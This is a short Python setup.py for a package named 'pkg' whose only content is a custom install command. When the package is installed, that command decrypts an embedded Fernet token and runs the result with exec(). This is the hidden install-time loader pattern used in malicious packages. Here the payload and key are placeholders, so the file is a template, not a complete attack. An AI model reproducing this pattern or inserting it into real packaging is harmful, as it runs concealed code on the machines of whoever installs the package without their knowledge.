from setuptools import setup
from setuptools.command.install import install
class I(install):
    def run(self):
        from fernet import Fernet
        exec(Fernet(b'k').decrypt(b'gAAAAABxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'))
setup(name='pkg', cmdclass={'install': I})
